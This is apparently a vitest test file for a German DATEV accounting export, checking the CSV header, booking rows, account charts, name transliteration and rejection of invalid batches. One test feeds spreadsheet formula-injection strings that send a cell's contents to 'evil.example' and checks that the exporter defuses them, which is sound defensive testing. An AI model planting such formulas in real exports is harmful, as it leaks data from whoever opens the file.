import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { datevWriter, type Batch, type Booking } from '../../../server/exports/datev.ts';
import {
  chartAccounts,
  invoiceBookings,
  paymentBooking,
  receivablesOf,
} from '../../../server/exports/datev-bookings.ts';
import {
  cancellationOf,
  invoiceContentOf,
  invoiceSamples,
  summed,
} from '../../support/invoice-content.ts';
import { readDatev } from '../../support/read-datev.ts';

const batch: Batch = {
  consultant: 29098,
  client: 55003,
  yearFrom: '2027-01-01',
  from: '2027-03-01',
  to: '2027-04-30',
  writtenAt: '2027-05-03T08:15:30.250',
  name: 'Vermietung März und April 2027',
  currency: 'EUR',
  chart: 'SKR03',
  accountLength: 4,
};
const accounts = chartAccounts.SKR03;
const claim = invoiceContentOf({
  ...summed([
    { kind: 'damage', name: 'Schaden', description: 'Kratzer', vatPercent: 0, gross: 820 },
  ]),
  kind: 'claim',
  number: 'SF-2027-000003',
});
const customer = receivablesOf(accounts, 17, batch.accountLength);
const month: Booking[] = [
  ...[
    invoiceSamples.everything,
    invoiceSamples['two rates'],
    invoiceSamples.cancellation,
    invoiceSamples.untaxed,
    claim,
  ].flatMap((content) => invoiceBookings(content, accounts, customer)),
  paymentBooking(
    {
      kind: 'deposit_kept',
      amount: 500,
      paidOn: '2027-04-01',
      number: 'SF-2027-000003',
      text: 'Kaution "einbehalten"; Grażyna Brzęczyszczykiewicz',
    },
    accounts,
    customer,
  ),
];

function toDatev(bookings: Booking[], of: Batch): Buffer {
  const { head, lineOf } = datevWriter(of);
  return Buffer.concat([head, ...bookings.map(lineOf)]);
}

test('is the file that was looked at', () => {
  const golden = readFileSync(new URL('EXTF_Buchungsstapel.csv', import.meta.url));
  expect(toDatev(month, batch).toString('latin1')).toBe(golden.toString('latin1'));
});

test('names are readable though their letters are not in its alphabet', () => {
  const [booking] = month;
  const text = 'Yılmaz, Łukasz, Đorđe, Şahin, €';
  const { rows } = readDatev(toDatev([{ ...booking!, text }], batch));
  expect(rows[0]!['Buchungstext']).toBe('Yilmaz, Lukasz, Dorde, Sahin, €');
});

test.each([' =-HYPERLINK("http://evil.example/"&A1)', '≠HYPERLINK("http://evil.example/"&A1)'])(
  '%s begins no formula where the file is opened as a table',
  (text) => {
    const [booking] = month;
    const { rows } = readDatev(toDatev([{ ...booking!, text }], batch));
    expect(rows[0]!['Buchungstext']).toMatch(/^\??HYPERLINK\("http:\/\/evil.example\/"&A1\)$/);
  },
);

describe('another program', () => {
  const { head, columns, rows } = readDatev(toDatev(month, batch));

  test('reads whose it is, of when, and that nothing is locked', () => {
    expect(head).toEqual([
      ...['EXTF', '700', '21', 'Buchungsstapel', '13', '20270503081530250', '', '', '', ''],
      ...['29098', '55003', '20270101', '4', '20270301', '20270430'],
      ...['Vermietung März und April 2027', '', '1', '0', '0', 'EUR'],
      ...['', '', '', '', '03', '', '', '', ''],
    ]);
    expect(head.length).toBe(31);
    expect([columns.length, new Set(columns).size]).toEqual([125, 125]);
    expect([columns[113], columns[114], columns[116], columns[124]]).toEqual([
      ...['Festschreibung', 'Leistungsdatum', 'Fälligkeit', 'Abw. Skontokonto'],
    ]);
    expect(rows.every((row) => row['Festschreibung'] === '0' && row['BU-Schlüssel'] === '')).toBe(
      true,
    );
  });

  test('reads what is booked where', () => {
    expect(
      rows.map((row) =>
        [
          ...['Umsatz (ohne Soll/Haben-Kz)', 'Soll/Haben-Kennzeichen', 'Konto'],
          ...['Gegenkonto (ohne BU-Schlüssel)', 'Belegdatum', 'Belegfeld 1', 'Leistungsdatum'],
          ...['Datum Zuord. Steuerperiode', 'Fälligkeit'],
        ].map((column) => row[column]),
      ),
    ).toEqual([
      [
        '382,05',
        'S',
        '10017',
        '8400',
        '2903',
        'RE-2027-000017',
        '29032027',
        '29032027',
        '12042027',
      ],
      [
        '297,00',
        'S',
        '10017',
        '8400',
        '2903',
        'RE-2027-000017',
        '29032027',
        '29032027',
        '12042027',
      ],
      ['21,40', 'S', '10017', '8300', '2903', 'RE-2027-000017', '29032027', '29032027', '12042027'],
      // A cancellation is on the other side, its amount is positive.
      ['382,05', 'H', '10017', '8400', '0204', 'RE-2027-000018', '29032027', '02042027', ''],
      [
        '297,00',
        'S',
        '10017',
        '8200',
        '2903',
        'RE-2027-000017',
        '29032027',
        '29032027',
        '12042027',
      ],
      [
        '820,00',
        'S',
        '10017',
        '2742',
        '2903',
        'SF-2027-000003',
        '29032027',
        '29032027',
        '12042027',
      ],
      ['500,00', 'S', '1732', '10017', '0104', 'SF-2027-000003', '', '', ''],
    ]);
    expect(rows.at(-1)!['Buchungstext']).toBe('Kaution "einbehalten"; Grazyna Brzeczyszczykiewicz');
    expect(rows[0]!['Buchungstext']).toBe('Tiefbau Grünwald GmbH');
  });

  test('reads each row, whatever was typed', () => {
    const rowOf = fc.record({
      amount: fc.integer({ min: -1_000_000_000, max: 1_000_000_000 }).map((cents) => cents / 100),
      account: fc.constantFrom('10000', '69999', '1410'),
      contra: fc.constantFrom('8400', '1360'),
      number: fc.string({ unit: 'binary', maxLength: 50 }),
      text: fc.string({ unit: 'binary', maxLength: 100 }),
      issuedOn: fc.constantFrom('2027-03-01', '2027-04-30'),
      suppliedOn: fc.constant('2027-02-28'),
      taxedOn: fc.constant('2027-02-28'),
      dueOn: fc.constantFrom('', '2027-05-01'),
    });
    fc.assert(
      fc.property(fc.array(rowOf), (bookings) => {
        const all = readDatev(toDatev(bookings, batch)).rows;
        const booked = bookings.filter(({ amount }) => amount !== 0);
        expect(all.length).toBe(booked.length);
        booked.forEach(({ amount, account, contra }, index) => {
          const row = all[index]!;
          const sign = row['Soll/Haben-Kennzeichen'] === 'S' ? 1 : -1;
          const read = Number(row['Umsatz (ohne Soll/Haben-Kz)']!.replace(',', '.'));
          expect(sign * read).toBe(amount);
          expect([row['Konto'], row['Gegenkonto (ohne BU-Schlüssel)']]).toEqual([account, contra]);
          expect(row['Belegfeld 1']).toMatch(/^[A-Za-z0-9$&%*+\-/]{0,36}$/);
          expect(row['Buchungstext']!.length).toBeLessThanOrEqual(60);
        });
      }),
    );
  });
});

test.each([
  ['a batch over two financial years', month, { from: '2026-12-01' }, 'financial year'],
  ['a financial year that ended', month, { yearFrom: '2026-04-01' }, 'financial year'],
  ['what is of another month', month, { to: '2027-03-31' }, 'is not from'],
  ['an account of letters', [{ ...month[0]!, contra: 'x' }], {}, 'names no account'],
  ['a service without its tax', [{ ...month[0]!, taxedOn: '' }], {}, 'needs the day'],
  ['an account that is too long', [{ ...month[0]!, account: '100000' }], {}, 'names no account'],
])('refuses %s', (_, bookings, changed, message) => {
  expect(() => toDatev(bookings, { ...batch, ...changed })).toThrow(message);
});

describe('accounts', () => {
  test('are those of the chart', () => {
    const [row] = invoiceBookings(invoiceContentOf(), chartAccounts.SKR04, '10001');
    expect(row!.contra).toBe('4400');
    expect(Object.keys(chartAccounts.SKR04)).toEqual(Object.keys(accounts));
    const { head } = readDatev(toDatev([], { ...batch, chart: 'SKR04' }));
    expect(head[26]).toBe('04');
  });

  test('are of each customer, or of all', () => {
    expect(receivablesOf(accounts, 0, 4)).toBe('10000');
    expect(receivablesOf(accounts, 0, 5)).toBe('100000');
    expect(receivablesOf({ ...accounts, receivables: '1410' }, 17, 4)).toBe('1410');
    expect(receivablesOf(accounts, 59_999, 4)).toBe('69999');
    expect(() => receivablesOf(accounts, 60_000, 4)).toThrow('No account is left');
  });

  test('are none for a rate that nobody named', () => {
    const content = invoiceContentOf({}, [
      { kind: 'rental', name: 'Miete', description: '', vatPercent: 16, gross: 116 },
    ]);
    expect(() => invoiceBookings(content, accounts, '10000')).toThrow('No account for 16 %');
  });

  test('of a claim that is withdrawn are those of the claim', () => {
    const [taken] = invoiceBookings(cancellationOf(claim), accounts, '10000');
    expect([taken!.contra, taken!.amount]).toEqual(['2742', -820]);
  });

  test.each([
    ['payment', '1360', '10000'],
    ['advance', '1360', '1718'],
    ['deposit', '1360', '1732'],
    ['deposit_kept', '1732', '10000'],
  ] as const)('of a %s are %s and %s', (kind, account, contra) => {
    const payment = { kind, amount: -5, paidOn: '2027-03-02', number: 'R-1', text: 'zurück' };
    const booking = paymentBooking(payment, accounts, '10000');
    expect([booking.account, booking.contra, booking.amount]).toEqual([account, contra, -5]);
  });
});
